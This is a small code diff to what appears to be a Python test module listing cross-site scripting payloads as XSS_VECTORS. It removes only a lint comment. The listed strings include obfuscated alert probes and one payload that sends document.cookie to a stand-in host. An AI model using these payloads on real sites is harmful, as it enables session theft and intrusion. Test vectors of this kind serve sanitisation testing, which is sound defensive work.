@@ -76,7 +76,7 @@ _EPOCH = datetime(2012, 1, 1, tzinfo=VIETNAM)    # date of a decoy in an otherwi
 
 XSS_VECTORS: tuple[str, ...] = (
     "<script>alert('XSS')</script>",
-    '<SCRIPT type="text/javascript">document.write("<img src=\\"http://xss.invalid/?c=" + document.cookie + "\\">")</SCRIPT>',  # noqa: E501
+    '<SCRIPT type="text/javascript">document.write("<img src=\\"http://xss.invalid/?c=" + document.cookie + "\\">")</SCRIPT>',
     '<img src="" onerror="alert(\'XSS\')" />',
     '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
     '<IMG SRC=JaVaScRiPt:alert(&quot;XSS&quot;)>',
